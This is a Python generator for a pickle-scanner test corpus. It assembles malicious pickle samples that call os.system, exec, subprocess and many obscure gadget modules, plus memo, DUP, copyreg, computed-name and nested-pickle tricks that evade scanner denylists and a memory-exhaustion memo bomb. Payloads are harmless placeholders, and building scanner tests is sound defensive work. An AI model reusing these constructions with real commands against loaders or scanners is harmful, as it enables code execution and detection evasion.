"""Generate the labelled scanner corpus under tests/assets/corpus/ (see README.md beside this file).

    python tests/assets/generate.py            # check: regenerate into a temp dir and compare
    python tests/assets/generate.py --check    # the same, spelled out
    python tests/assets/generate.py --write    # (re)write the committed corpus and manifest

NEVER-LOAD RULE: this script *writes* bytes only. It never unpickles, loads or runs a sample,
and nothing in the test-suite may either. Every payload is harmless if it ever ran by mistake
(`true`, `print('pwned')`, `1+1`, `--version`), so an accident costs nothing.

Pickles are assembled opcode by opcode (`enc` / `pk`) rather than with `pickle.dumps` of a
malicious `__reduce__`, so each sample shows exactly the technique it is named after.
`pickle.dumps` is used only on plain, harmless values (dicts, datetimes, numpy arrays).
"""

from __future__ import annotations

import argparse
import base64
import bz2
import datetime as dt
import decimal
import filecmp
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import sys
import tarfile
import tempfile
import uuid
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
DEFAULT_OUT = HERE / "corpus"
MAX_CORPUS_BYTES = 5 * 1024 * 1024

# --------------------------------------------------------------------------------------------
# Samples and the manifest
# --------------------------------------------------------------------------------------------

EXPECTED = ("malicious", "suspicious", "malformed", "unsupported", "clean")


@dataclass(frozen=True)
class Sample:
    path: str  # "<category>/<name>", POSIX, relative to the corpus root
    data: bytes
    format: str
    technique: str
    expected: str
    reference: str | None = None
    notes: str = ""

    def manifest_entry(self) -> dict[str, str | None]:
        return {
            "path": self.path,
            "format": self.format,
            "technique": self.technique,
            "reference": self.reference,
            "expected": self.expected,
            "notes": self.notes,
        }


@dataclass
class Corpus:
    samples: list[Sample] = field(default_factory=list)

    def add(
        self,
        path: str,
        data: bytes,
        *,
        fmt: str,
        technique: str,
        expected: str,
        reference: str | None = None,
        notes: str = "",
    ) -> None:
        if expected not in EXPECTED:
            raise ValueError(f"{path}: bad label {expected!r}")
        if any(s.path == path for s in self.samples):
            raise ValueError(f"duplicate sample path {path}")
        self.samples.append(Sample(path, data, fmt, technique, expected, reference, notes))


# --------------------------------------------------------------------------------------------
# A tiny pickle assembler. Values are encoded for one protocol; G is a global reference,
# Call a REDUCE, Raw literal opcode bytes spliced in as they are.
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    module: str
    name: str


@dataclass(frozen=True)
class Call:
    fn: object
    args: tuple[object, ...] = ()


@dataclass(frozen=True)
class Raw:
    data: bytes


def _text0(s: str) -> bytes:
    # protocol-0 UNICODE: raw-unicode-escape with backslash and newline escaped, like pickle.py
    esc = s.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
    esc = esc.replace("\r", "\\u000d").replace("\x1a", "\\u001a")
    return pickle.UNICODE + esc.encode("raw-unicode-escape") + b"\n"


def enc(v: object, proto: int) -> bytes:
    """Opcodes that push `v` on the unpickler stack, for pickle protocol `proto`."""
    if isinstance(v, Raw):
        return v.data
    if isinstance(v, G):
        if proto >= 4:
            return enc(v.module, proto) + enc(v.name, proto) + pickle.STACK_GLOBAL
        return pickle.GLOBAL + f"{v.module}\n{v.name}\n".encode()
    if isinstance(v, Call):
        return enc(v.fn, proto) + enc(tuple(v.args), proto) + pickle.REDUCE
    if v is None:
        return pickle.NONE
    if isinstance(v, bool):
        if proto >= 2:
            return pickle.NEWTRUE if v else pickle.NEWFALSE
        return pickle.TRUE if v else pickle.FALSE
    if isinstance(v, int):
        if proto == 0:
            return pickle.INT + str(v).encode() + b"\n"
        if 0 <= v < 256:
            return pickle.BININT1 + bytes([v])
        if 0 <= v < 65536:
            return pickle.BININT2 + struct.pack("<H", v)
        if -(2**31) <= v < 2**31:
            return pickle.BININT + struct.pack("<i", v)
        if proto >= 2:
            raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
            return pickle.LONG1 + bytes([len(raw)]) + raw
        return pickle.LONG + str(v).encode() + b"L\n"
    if isinstance(v, float):
        if proto == 0:
            return pickle.FLOAT + repr(v).encode() + b"\n"
        return pickle.BINFLOAT + struct.pack(">d", v)
    if isinstance(v, str):
        if proto == 0:
            return _text0(v)
        raw = v.encode("utf-8", "surrogatepass")
        if proto >= 4 and len(raw) < 256:
            return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw
        return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw
    if isinstance(v, bytes):
        if proto < 3:
            raise ValueError("bytes need protocol 3+")
        if len(v) < 256:
            return pickle.SHORT_BINBYTES + bytes([len(v)]) + v
        return pickle.BINBYTES + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        items = b"".join(enc(x, proto) for x in v)
        if not v and proto >= 1:
            return pickle.EMPTY_TUPLE
        if proto >= 2 and len(v) <= 3:
            return items + (pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)[len(v) - 1]
        return pickle.MARK + items + pickle.TUPLE
    if isinstance(v, list):
        items = b"".join(enc(x, proto) for x in v)
        if proto == 0:
            return pickle.MARK + items + pickle.LIST
        return pickle.EMPTY_LIST + (pickle.MARK + items + pickle.APPENDS if v else b"")
    if isinstance(v, dict):
        items = b"".join(enc(k, proto) + enc(x, proto) for k, x in v.items())
        if proto == 0:
            return pickle.MARK + items + pickle.DICT
        return pickle.EMPTY_DICT + (pickle.MARK + items + pickle.SETITEMS if v else b"")
    raise TypeError(f"cannot encode {type(v).__name__}")


def wrap(body: bytes, proto: int, *, stop: bool = True) -> bytes:
    """PROTO header, optional FRAME (protocol 4+), and STOP around already-encoded opcodes."""
    if stop:
        body += pickle.STOP
    if proto >= 4:
        body = pickle.FRAME + struct.pack("<Q", len(body)) + body
    if proto >= 2:
        body = pickle.PROTO + bytes([proto]) + body
    return body


def pk(v: object, proto: int) -> bytes:
    return wrap(enc(v, proto), proto)


SYSTEM = G("posix", "system")  # what pickle.dumps writes for os.system on Linux
SHELL = "true"  # the harmless command every shell payload runs
PY = "print('pwned')"  # the harmless code every exec/eval payload runs


def malicious_p(proto: int = 2) -> bytes:
    return pk(Call(SYSTEM, (SHELL,)), proto)


# --------------------------------------------------------------------------------------------
# Torch-style state_dict pickles (benign), as torch.save writes them: protocol 2, OrderedDict,
# _rebuild_tensor_v2 with persistent ids for storages, and a BUILD for `_metadata`.
# --------------------------------------------------------------------------------------------

ORDERED_DICT = G("collections", "OrderedDict")
REBUILD = G("torch._utils", "_rebuild_tensor_v2")


def _strides(shape: tuple[int, ...]) -> tuple[int, ...]:
    out: list[int] = []
    acc = 1
    for d in reversed(shape):
        out.append(acc)
        acc *= d
    return tuple(reversed(out))


def tensor_ops(key: str, shape: tuple[int, ...], *, legacy: bool = False, numel: int = 0) -> bytes:
    n = numel or max(1, _prod(shape))
    pid: tuple[object, ...] = ("storage", G("torch", "FloatStorage"), key, "cpu", n)
    if legacy:
        pid = (*pid, None)
    return (
        enc(REBUILD, 2)
        + pickle.MARK
        + enc(pid, 2)
        + pickle.BINPERSID
        + enc(0, 2)
        + enc(shape, 2)
        + enc(_strides(shape), 2)
        + enc(False, 2)
        + enc(Call(ORDERED_DICT), 2)
        + pickle.TUPLE
        + pickle.REDUCE
    )


def _prod(shape: Iterable[int]) -> int:
    p = 1
    for d in shape:
        p *= d
    return p


TENSORS: list[tuple[str, str, tuple[int, ...]]] = [
    ("fc.weight", "0", (2, 2)),
    ("fc.bias", "1", (2,)),
]


def state_dict_pickle(*, legacy: bool = False, numel_override: int = 0) -> bytes:
    body = enc(Call(ORDERED_DICT), 2) + pickle.MARK
    for i, (name, key, shape) in enumerate(TENSORS):
        numel = numel_override if (numel_override and i == 0) else 0
        body += enc(name, 2) + tensor_ops(key, shape, legacy=legacy, numel=numel)
    body += pickle.SETITEMS
    body += enc({"_metadata": Call(ORDERED_DICT, ([["", {"version": 1}]],))}, 2) + pickle.BUILD
    return wrap(body, 2)


def storage_bytes(key: str) -> bytes:
    shape = {k: s for _, k, s in TENSORS}[key]
    n = _prod(shape)
    return b"".join(struct.pack("<f", float(i) / 8) for i in range(n))


# --------------------------------------------------------------------------------------------
# A hand-rolled ZIP writer: stored or deflated members, torch's 64-byte data alignment, fixed
# timestamps, and knobs for the malformations (flag bits, CRC, local/central name mismatch,
# duplicate names, leading bytes).
# --------------------------------------------------------------------------------------------

DOS_TIME, DOS_DATE = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00


@dataclass(frozen=True)
class ZMember:
    name: str
    data: bytes
    flags: int = 0
    crc: int | None = None  # override the CRC-32 in both headers
    central_name: str | None = None  # name in the central directory, if it differs
    deflate: bool = False


def build_zip(members: list[ZMember], *, prefix: bytes = b"", align: int = 64) -> bytes:
    out = bytearray(prefix)
    central = bytearray()
    for m in members:
        local_name = m.name.encode()
        central_name = (m.central_name or m.name).encode()
        payload = zlib.compressobj(9, zlib.DEFLATED, -15) if m.deflate else None
        body = (payload.compress(m.data) + payload.flush()) if payload else m.data
        crc = m.crc if m.crc is not None else zlib.crc32(m.data)
        method = 8 if m.deflate else 0
        offset = len(out)
        header_len = 30 + len(local_name)
        extra = b""
        if align and not m.deflate:
            pad = (-(offset + header_len + 4)) % align
            extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad  # torch's "FB" padding
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            m.flags,
            method,
            DOS_TIME,
            DOS_DATE,
            crc,
            len(body),
            len(m.data),
            len(local_name),
            len(extra),
        )
        out += local_name + extra + body
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            m.flags,
            method,
            DOS_TIME,
            DOS_DATE,
            crc,
            len(body),
            len(m.data),
            len(central_name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += central_name
    cd_offset = len(out)
    out += central
    out += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_offset, 0
    )
    return bytes(out)


def torch_zip_members(data_pkl: bytes, prefix: str = "archive") -> list[ZMember]:
    return [
        ZMember(f"{prefix}/data.pkl", data_pkl),
        ZMember(f"{prefix}/byteorder", b"little"),
        ZMember(f"{prefix}/data/0", storage_bytes("0")),
        ZMember(f"{prefix}/data/1", storage_bytes("1")),
        ZMember(f"{prefix}/version", b"3\n"),
        ZMember(f"{prefix}/.data/serialization_id", b"1234567890123456789012345678901234567890"),
    ]


# --------------------------------------------------------------------------------------------
# Pickle VM techniques
# --------------------------------------------------------------------------------------------


def pickles(c: Corpus) -> None:
    def add(name: str, data: bytes, technique: str, **kw: str | None) -> None:
        expected = kw.pop("expected", None) or "malicious"
        reference = kw.pop("reference", None)
        notes = kw.pop("notes", None) or ""
        c.add(
            f"pickle/{name}",
            data,
            fmt="pickle",
            technique=technique,
            expected=expected,
            reference=reference,
            notes=notes,
        )

    call_sys = Call(SYSTEM, (SHELL,))
    add(
        "os_system_global_reduce_p0.pkl",
        pk(Call(G("os", "system"), (SHELL,)), 0),
        "GLOBAL os.system + REDUCE, protocol 0 text pickle",
    )
    add(
        "posix_system_global_reduce_p2.pkl",
        pk(call_sys, 2),
        "GLOBAL posix.system + REDUCE (os alias that pickle.dumps writes on Linux)",
    )
    add(
        "posix_system_stack_global_p4.pkl",
        pk(call_sys, 4),
        "STACK_GLOBAL posix.system inside a FRAME, protocol 4",
    )
    add("posix_system_stack_global_p5.pkl", pk(call_sys, 5), "STACK_GLOBAL, protocol 5 FRAME")
    add(
        "nt_system_global_reduce_p2.pkl",
        pk(Call(G("nt", "system"), (SHELL,)), 2),
        "GLOBAL nt.system (Windows os alias)",
    )
    add(
        "builtin_eval_py2_name_p0.pkl",
        pk(Call(G("__builtin__", "eval"), ("1+1",)), 0),
        "Python-2 module name __builtin__.eval, mapped to builtins by fix_imports",
    )
    add(
        "builtins_exec_p4.pkl",
        pk(Call(G("builtins", "exec"), (PY,)), 4),
        "builtins.exec of a code string",
    )
    add(
        "builtins_eval_p2.pkl",
        pk(Call(G("builtins", "eval"), ("1+1",)), 2),
        "builtins.eval of an expression",
    )
    imp_os = Call(G("builtins", "__import__"), ("os",))
    add(
        "builtins_import_getattr_chain_p2.pkl",
        pk(Call(Call(G("builtins", "getattr"), (imp_os, "system")), (SHELL,)), 2),
        "builtins.getattr(builtins.__import__('os'), 'system')('true')",
    )
    add(
        "subprocess_popen_p2.pkl",
        pk(Call(G("subprocess", "Popen"), ([SHELL],)), 2),
        "subprocess.Popen(['true'])",
    )
    add(
        "subprocess_check_output_p4.pkl",
        pk(Call(G("subprocess", "check_output"), ([SHELL],)), 4),
        "subprocess.check_output(['true'])",
    )
    add(
        "runpy_run_code_p4.pkl",
        pk(Call(G("runpy", "_run_code"), (PY, {})), 4),
        "runpy._run_code(code, globals): exec of a string",
    )
    os_mod = Call(G("importlib", "import_module"), ("os",))
    add(
        "importlib_import_module_methodcaller_p4.pkl",
        pk(Call(Call(G("operator", "methodcaller"), ("system", SHELL)), (os_mod,)), 4),
        "operator.methodcaller('system','true')(importlib.import_module('os'))",
        reference="GHSA-m273-6v24-x4m4",
        notes="picklescan operator-module bypass (advisory grouping as listed in fickling PR #210)",
    )
    add(
        "operator_attrgetter_p4.pkl",
        pk(Call(Call(Call(G("operator", "attrgetter"), ("system",)), (os_mod,)), (SHELL,)), 4),
        "operator.attrgetter('system')(importlib.import_module('os'))('true')",
        reference="GHSA-m273-6v24-x4m4",
    )
    add(
        "_operator_attrgetter_p4.pkl",
        pk(Call(Call(Call(G("_operator", "attrgetter"), ("system",)), (os_mod,)), (SHELL,)), 4),
        "C-module spelling _operator.attrgetter (denylists keyed on 'operator' miss it)",
        reference="GHSA-955r-x9j8-7rhh",
        notes="fixed by picklescan PR #54 'Fix _operator'",
    )
    add(
        "functools_partial_p4.pkl",
        pk(Call(Call(G("functools", "partial"), (SYSTEM, SHELL)), ()), 4),
        "functools.partial(posix.system, 'true')() - the dangerous callable is an argument",
    )

    # INST / OBJ / NEWOBJ / NEWOBJ_EX: calls with no REDUCE opcode
    add(
        "inst_opcode_os_system_p0.pkl",
        pickle.MARK + enc(SHELL, 0) + pickle.INST + b"os\nsystem\n" + pickle.STOP,
        "INST opcode: the 'class' os.system is called with the marked arguments",
    )
    add(
        "obj_opcode_posix_system_p2.pkl",
        wrap(pickle.MARK + enc(SYSTEM, 2) + enc(SHELL, 2) + pickle.OBJ, 2),
        "OBJ opcode: callable and arguments after MARK, no REDUCE",
    )
    add(
        "newobj_subprocess_popen_p2.pkl",
        wrap(enc(G("subprocess", "Popen"), 2) + enc(([SHELL],), 2) + pickle.NEWOBJ, 2),
        "NEWOBJ on subprocess.Popen (cls.__new__(cls, *args))",
        notes="Popen.__new__ alone does not spawn; the dangerous global is the finding",
    )
    add(
        "newobj_ex_subprocess_popen_p4.pkl",
        wrap(
            enc(G("subprocess", "Popen"), 4)
            + enc((), 4)
            + enc({"args": [SHELL]}, 4)
            + pickle.NEWOBJ_EX,
            4,
        ),
        "NEWOBJ_EX on subprocess.Popen with keyword arguments",
    )
    ns = Call(G("types", "SimpleNamespace"))
    add(
        "build_setstate_slotstate_gadget_p4.pkl",
        wrap(
            enc(ns, 4)
            + enc((None, {"__setstate__": SYSTEM}), 4)
            + pickle.BUILD
            + enc(SHELL, 4)
            + pickle.BUILD,
            4,
        ),
        "BUILD #1 sets instance attribute __setstate__=posix.system via slotstate; "
        "BUILD #2 calls it with 'true'",
    )
    add(
        "build_setstate_dict_state_gadget_p2.pkl",
        wrap(
            enc(ns, 2)
            + enc({"__setstate__": SYSTEM}, 2)
            + pickle.BUILD
            + enc(SHELL, 2)
            # second BUILD calls inst.__setstate__('true')
            + pickle.BUILD,
            2,
        ),
        "BUILD with a dict state writing the dunder __setstate__ into __dict__, then BUILD",
    )

    # memo and DUP tricks
    add(
        "memo_binput_hidden_callable_p2.pkl",
        wrap(
            enc(SYSTEM, 2)
            + pickle.BINPUT
            + b"\x07"
            + pickle.POP
            + enc({"weights": [1, 2, 3], "epoch": 7}, 2)
            + pickle.POP
            + pickle.BINGET
            + b"\x07"
            + enc((SHELL,), 2)
            + pickle.REDUCE,
            2,
        ),
        "callable imported, stored with BINPUT and popped; fetched later with BINGET for REDUCE",
    )
    add(
        "stack_global_memo_operands_p4.pkl",
        wrap(
            enc("posix", 4)
            + pickle.MEMOIZE
            + pickle.POP
            + enc("system", 4)
            + pickle.MEMOIZE
            + pickle.POP
            + enc({"lr": 0.1}, 4)
            + pickle.POP
            + pickle.BINGET
            + b"\x00"
            + pickle.BINGET
            + b"\x01"
            + pickle.STACK_GLOBAL
            + enc((SHELL,), 4)
            + pickle.REDUCE,
            4,
        ),
        "STACK_GLOBAL whose module and name come from the memo (MEMOIZE then BINGET)",
    )
    add(
        "dup_memoize_confusion_p4.pkl",
        wrap(
            enc("posix", 4)
            + pickle.DUP
            + pickle.MEMOIZE  # memo[0] = 'posix'; a prev-argument memo model records None
            + pickle.POP
            + pickle.POP
            + enc("system", 4)
            + pickle.DUP
            + pickle.MEMOIZE  # memo[1] = 'system'
            + pickle.POP
            + pickle.POP
            + pickle.BINGET
            + b"\x00"
            + pickle.BINGET
            + b"\x01"
            + pickle.STACK_GLOBAL
            + enc((SHELL,), 4)
            + pickle.REDUCE,
            4,
        ),
        "DUP before MEMOIZE so a scanner that memoizes the previous opcode's argument "
        "resolves the global as 'None None'",
        reference="GHSA-9gvj-pp9x-gcfr",
        notes="picklescan issue #22 / PR #46 ('pickle parsing logic flaw')",
    )
    add_ext = Call(G("copyreg", "add_extension"), ("posix", "system", 240))
    add(
        "ext1_copyreg_extension_p2.pkl",
        wrap(
            enc(add_ext, 2)
            + pickle.POP
            + pickle.EXT1
            + bytes([240])
            + enc((SHELL,), 2)
            + pickle.REDUCE,
            2,
        ),
        "copyreg.add_extension registers posix.system as code 240; EXT1 fetches it",
    )
    add(
        "ext2_copyreg_extension_p2.pkl",
        wrap(
            enc(Call(G("copyreg", "add_extension"), ("posix", "system", 0x1234)), 2)
            + pickle.POP
            + pickle.EXT2
            + struct.pack("<H", 0x1234)
            + enc((SHELL,), 2)
            + pickle.REDUCE,
            2,
        ),
        "EXT2 variant of the copyreg extension-registry trick",
    )
    rot = Call(G("codecs", "decode"), ("cbfvk", "rot13"))
    add(
        "computed_global_name_codecs_rot13_p4.pkl",
        wrap(
            enc(rot, 4) + enc("system", 4) + pickle.STACK_GLOBAL + enc((SHELL,), 4) + pickle.REDUCE,
            4,
        ),
        "STACK_GLOBAL module computed at load time (codecs.decode('cbfvk','rot13') == 'posix')",
        notes="static analysis cannot resolve the operand: must fail closed",
    )

    # nesting, stacking, trailing and truncated streams
    inner = malicious_p(4)
    add(
        "nested_pickle_loads_p4.pkl",
        pk(Call(G("pickle", "loads"), (inner,)), 4),
        "pickle.loads(b'<inner malicious pickle>')",
        reference="GHSA-84r2-jw7c-4r5q",
    )
    add(
        "nested__pickle_loads_p4.pkl",
        pk(Call(G("_pickle", "loads"), (inner,)), 4),
        "_pickle.loads (C module spelling) of an inner malicious pickle",
        reference="GHSA-84r2-jw7c-4r5q",
    )
    add(
        "nested_forkingpickler_loads_p4.pkl",
        pk(Call(G("multiprocessing.reduction", "ForkingPickler.loads"), (inner,)), 4),
        "dotted alias multiprocessing.reduction.ForkingPickler.loads of an inner pickle",
    )
    add(
        "concatenated_benign_then_malicious.pkl",
        pickle.dumps({"epoch": 3, "step": 1000}, protocol=2) + malicious_p(2),
        "two pickles back to back: benign first, malicious second (stacked pickles)",
        notes="readers that consume several pickles (torch legacy, custom loaders) run both",
    )
    add(
        "trailing_garbage_after_stop.pkl",
        pickle.dumps({"epoch": 3}, protocol=4) + b"\x00\xffTRAILING-DATA-NOT-A-PICKLE" * 4,
        "non-pickle bytes after STOP",
        expected="suspicious",
        notes="no call is made; data after the last STOP outside a known layout is a finding",
    )
    add(
        "truncated_after_reduce_nullifai_p2.pkl",
        pickle.PROTO
        + b"\x02"
        + enc(call_sys, 2)
        + pickle.BINUNICODE
        + struct.pack("<I", 0xFFFF)
        + b"cut",
        "REDUCE runs before the stream breaks (no STOP, truncated BINUNICODE)",
        notes="ReversingLabs 'nullifAI' (Feb 2025); no advisory id",
    )
    add(
        "truncated_before_any_call_p2.pkl",
        pickle.dumps({"epoch": 3, "name": "model"}, protocol=2)[:-9],
        "benign pickle cut short before any call",
        expected="malformed",
    )
    add(
        "memo_bomb_long_binput_p2.pkl",
        pickle.PROTO + b"\x02" + pickle.EMPTY_LIST + pickle.LONG_BINPUT + b"\xf0\xff\xff\x7f.",
        "memo bomb: LONG_BINPUT index 0x7ffffff0 in a 9-byte pickle; CPython's C unpickler "
        "grows its memo array to twice the index (16-32 GiB)",
        expected="malformed",
        notes="fuzz finding (issue 12); no call is made, the harm is memory exhaustion",
    )
    add(
        "unknown_global_custom_class_p2.pkl",
        wrap(
            enc(G("mylab.models", "TinyNet"), 2)
            + enc((), 2)
            + pickle.NEWOBJ
            + enc({"hidden": 16}, 2)
            + pickle.BUILD,
            2,
        ),
        "a global outside any allowlist (a project's own class): not provably dangerous",
        expected="suspicious",
        notes="the loader would import mylab.models - arbitrary code by definition; review",
    )


def pickle_gadgets(c: Corpus) -> None:
    def add(
        name: str, value: object, technique: str, ref: str | None = None, notes: str = ""
    ) -> None:
        c.add(
            f"pickle_gadgets/{name}",
            pk(value, 4),
            fmt="pickle",
            technique=technique,
            expected="malicious",
            reference=ref,
            notes=notes,
        )

    add(
        "pip_main_cve_2025_1716.pkl",
        Call(G("pip", "main"), (["--version"],)),
        "pip.main([...]) - install an attacker package",
        "CVE-2025-1716",
    )
    add(
        "pip_internal_cli_main_submodule.pkl",
        Call(G("pip._internal.cli.main", "main"), (["--version"],)),
        "submodule of a denied module (exact-name denylists miss it)",
        "CVE-2025-10157",
    )
    add(
        "asyncio_unix_events_subprocess.pkl",
        Call(
            G("asyncio.unix_events", "_UnixSubprocessTransport._start"),
            (None, [SHELL], False, None, None, None, 0),
        ),
        "asyncio.unix_events._UnixSubprocessTransport._start (submodule of asyncio)",
        "CVE-2025-10157",
        "static sample: the call fails without a real transport instance",
    )
    add(
        "pydoc_locate.pkl",
        Call(Call(G("pydoc", "locate"), ("posix.system",)), (SHELL,)),
        "pydoc.locate('posix.system') resolves any dotted name at load time",
    )
    add(
        "pkgutil_resolve_name.pkl",
        Call(Call(G("pkgutil", "resolve_name"), ("os:system",)), (SHELL,)),
        "pkgutil.resolve_name('os:system') - universal denylist bypass",
        "GHSA-vvpj-8cmc-gx39",
    )
    add(
        "timeit_timeit.pkl",
        Call(G("timeit", "timeit"), (PY, "pass", G("time", "perf_counter"), 1)),
        "timeit.timeit(stmt) compiles and runs stmt",
        notes="added to picklescan in PR #40 (no advisory id)",
    )
    add(
        "cprofile_run.pkl",
        Call(G("cProfile", "run"), (PY,)),
        "cProfile.run(code string)",
    )
    add(
        "cprofile_runctx.pkl",
        Call(G("cProfile", "runctx"), (PY, {}, {})),
        "cProfile.runctx(code string, globals, locals)",
        "GHSA-9w88-8rmg-7g2p",
    )
    add("profile_run.pkl", Call(G("profile", "run"), (PY,)), "profile.run(code string)")
    prof = Call(G("profile", "Profile"))
    add(
        "profile_profile_run.pkl",
        Call(G("profile", "Profile.run"), (prof, PY)),
        "dotted method profile.Profile.run(self, cmd)",
        "GHSA-x696-vm39-cp64",
    )
    add(
        "profile_profile_runctx.pkl",
        Call(G("profile", "Profile.runctx"), (prof, PY, {}, {})),
        "dotted method profile.Profile.runctx(self, cmd, globals, locals)",
        "GHSA-6vqj-c2q5-j97w",
    )
    add(
        "pdb_run.pkl",
        Call(G("pdb", "run"), ("1+1",)),
        "pdb.run(statement) executes the statement under the debugger",
        notes="debugger modules added to picklescan in PR #29; would wait on stdin if run",
    )
    tracer = Call(G("trace", "Trace"), (0, 0))
    add(
        "trace_trace_run.pkl",
        Call(G("trace", "Trace.run"), (tracer, PY)),
        "dotted method trace.Trace.run(self, cmd)",
        "GHSA-5qwp-399c-mjwf",
    )
    add(
        "trace_trace_runctx.pkl",
        Call(G("trace", "Trace.runctx"), (tracer, PY, {}, {})),
        "dotted method trace.Trace.runctx(self, cmd, globals, locals)",
        "GHSA-g344-hcph-8vgg",
    )
    interp = Call(G("code", "InteractiveInterpreter"))
    add(
        "code_interactiveinterpreter_runsource.pkl",
        Call(G("code", "InteractiveInterpreter.runsource"), (interp, PY)),
        "dotted qualname code.InteractiveInterpreter.runsource (sibling of denied runcode)",
    )
    add(
        "idlelib_autocomplete_get_entity.pkl",
        Call(
            G("idlelib.autocomplete", "AutoComplete.get_entity"),
            (Call(G("idlelib.autocomplete", "AutoComplete")), "__import__('os').system('true')"),
        ),
        "idlelib.autocomplete.AutoComplete.get_entity evals its argument",
        "GHSA-6w4w-5w54-rjvr",
    )
    add(
        "lib2to3_grammar_loads_nested.pkl",
        Call(
            G("lib2to3.pgen2.grammar", "Grammar.loads"),
            (Call(G("lib2to3.pgen2.grammar", "Grammar")), malicious_p(4)),
        ),
        "lib2to3 Grammar.loads(self, pkl) is a pickle.loads of an inner pickle",
        "GHSA-f54q-57x4-jg88",
    )
    add(
        "ensurepip_run_pip.pkl",
        Call(G("ensurepip", "_run_pip"), (["--version"],)),
        "ensurepip._run_pip runs pip with attacker arguments",
        "GHSA-xp4f-hrf8-rxw7",
    )
    add(
        "torch_bottleneck_run_autograd_prof.pkl",
        Call(G("torch.utils.bottleneck.__main__", "run_autograd_prof"), (PY, {})),
        "torch.utils.bottleneck.__main__.run_autograd_prof(code, globs) execs code",
        "GHSA-4whj-rm5r-c2v8",
    )
    add(
        "torch_collect_env_run.pkl",
        Call(G("torch.utils.collect_env", "run"), (SHELL,)),
        "torch.utils.collect_env.run(command) runs a shell command",
    )
    add(
        "torch_inductor_codecache_compile_file.pkl",
        Call(G("torch._inductor.codecache", "compile_file"), ([], "/dev/null", [SHELL])),
        "torch._inductor.codecache.compile_file(inputs, output, cmd) runs cmd",
        notes="signature varies by torch version; the global is the finding",
    )
    add(
        "numpy_testing_runstring.pkl",
        Call(G("numpy.testing._private.utils", "runstring"), (PY, {})),
        "numpy.testing._private.utils.runstring(code, dict) execs code",
        notes="added to picklescan in PR #40 (no advisory id)",
    )
    add(
        "uuid_get_command_stdout.pkl",
        Call(G("uuid", "_get_command_stdout"), (SHELL,)),
        "uuid._get_command_stdout(command) runs a program",
    )
    add(
        "imaplib_imap4_stream.pkl",
        Call(G("imaplib", "IMAP4_stream"), (SHELL,)),
        "imaplib.IMAP4_stream(command) spawns a shell command",
    )
    add(
        "osx_support_read_output.pkl",
        Call(G("_osx_support", "_read_output"), (SHELL,)),
        "_osx_support._read_output(commandstring) shells out",
        "GHSA-g38g-8gr9-h9xp",
    )
    add(
        "distutils_spawn.pkl",
        Call(G("distutils.spawn", "spawn"), ([SHELL],)),
        "distutils.spawn.spawn(cmd)",
        notes="missed by picklescan 1.0.5 per our notes",
    )
    code = marshal.dumps(compile(PY, "<corpus>", "exec"))
    add(
        "types_functiontype_marshal.pkl",
        Call(Call(G("types", "FunctionType"), (Call(G("marshal", "loads"), (code,)), {})), ()),
        "types.FunctionType(marshal.loads(bytecode), {})() runs attacker bytecode",
        notes="bytecode is CPython-3.11 marshal of print('pwned'); missed by picklescan 1.0.5",
    )
    add(
        "operator_getitem_vars_import_module.pkl",
        Call(
            Call(
                G("operator", "getitem"),
                (
                    Call(G("builtins", "vars"), (Call(G("importlib", "import_module"), ("os",)),)),
                    "system",
                ),
            ),
            (SHELL,),
        ),
        "operator.getitem(vars(importlib.import_module('os')), 'system')('true')",
    )
    add(
        "ssl_get_server_certificate.pkl",
        Call(G("ssl", "get_server_certificate"), (("127.0.0.1", 9),)),
        "ssl.get_server_certificate: network call / DNS exfiltration primitive",
        "GHSA-hgrh-qx5j-jfwx",
        "network-module advisory per picklescan PR #53 / fickling PR #210",
    )


def pickles_benign(c: Corpus) -> None:
    import numpy as np

    def add(name: str, data: bytes, technique: str, notes: str = "") -> None:
        c.add(
            f"pickle_benign/{name}",
            data,
            fmt="pickle",
            technique=technique,
            expected="clean",
            notes=notes,
        )

    add(
        "torch_state_dict_p2.pkl",
        state_dict_pickle(),
        "torch.save-style state_dict: OrderedDict, _rebuild_tensor_v2, BINPERSID storages, "
        "BUILD _metadata",
        "hand-assembled; persistent ids need a persistent_load (the torch zip supplies it)",
    )
    add(
        "numpy_arange_p2.pkl",
        pickle.dumps(np.arange(6, dtype=np.float32), protocol=2),
        "pickle.dumps(numpy array), protocol 2: numpy _reconstruct/dtype + _codecs.encode",
        "bytes depend on the numpy major version (numpy.core vs numpy._core)",
    )
    add(
        "numpy_arange_p4.pkl",
        pickle.dumps(np.arange(6, dtype=np.int64).reshape(2, 3), protocol=4),
        "pickle.dumps(numpy array), protocol 4",
        "bytes depend on the numpy major version",
    )
    moments = {
        "created": dt.datetime(2024, 5, 17, 12, 30, 5, 1234),  # noqa: DTZ001  naive, as the format writes it
        "day": dt.date(2024, 5, 17),
        "at": dt.time(7, 45),
        "took": dt.timedelta(hours=3, seconds=2),
        "tz": dt.datetime(2024, 1, 1, tzinfo=dt.UTC),
    }
    add("datetime_objects_p2.pkl", pickle.dumps(moments, protocol=2), "datetime values, p2")
    add("datetime_objects_p4.pkl", pickle.dumps(moments, protocol=4), "datetime values, p4")
    values = {
        "tags": {3, 1, 2},
        "frozen": frozenset({1, 2}),
        "buf": bytearray(b"\x00\x01"),
        "z": complex(1, 2),
        "price": decimal.Decimal("1.50"),
        "id": uuid.UUID(int=0x1234),
        "sl": slice(1, 10, 2),
    }
    add(
        "stdlib_value_types_p4.pkl",
        pickle.dumps(values, protocol=4),
        "set, frozenset, bytearray, complex, Decimal, UUID, slice",
    )
    add(
        "plain_containers_p0.pkl",
